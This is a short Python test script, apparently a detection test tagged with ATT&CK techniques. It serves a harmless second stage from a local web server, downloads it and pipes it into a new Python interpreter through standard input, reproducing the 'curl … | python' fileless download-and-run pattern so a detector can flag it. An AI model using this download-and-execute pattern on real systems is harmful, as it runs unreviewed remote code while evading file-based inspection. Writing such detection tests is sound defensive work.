# technique: T1059.006 T1105
"""Parent downloads, child interpreter reads the program from its standard input (T1059.006, T1105).

The downloaded stage is written into a pipe to "sys.executable -" (python
reading its program from stdin), like "curl … | python". Neither the
child's command line nor any file holds the code; only the child's
transcript (origin stdin) does.

A good detector raises a high alert: an interpreter runs a program from a
pipe whose producer downloaded it.
"""
import http.server
import subprocess
import sys
import threading
import urllib.request

def serve(files):
    """Our own HTTP server on 127.0.0.1 (port 0) in a thread, serving {path: bytes}."""
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = files.get(self.path)
            if body is None:
                self.send_error(404)
                return
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return "http://127.0.0.1:%d" % server.server_address[1], server

base, server = serve({"/i.py": b"import os\nmarker = os.path.join(os.path.expanduser('~'), '.stage2')\nwith open(marker, 'w') as f:\n    f.write(str(os.getpid()))\nprint('stage two ran in', os.getpid())\n"})
stage = urllib.request.urlopen(base + "/i.py", timeout=5).read()
server.shutdown()
child = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
child.communicate(stage, timeout=5)
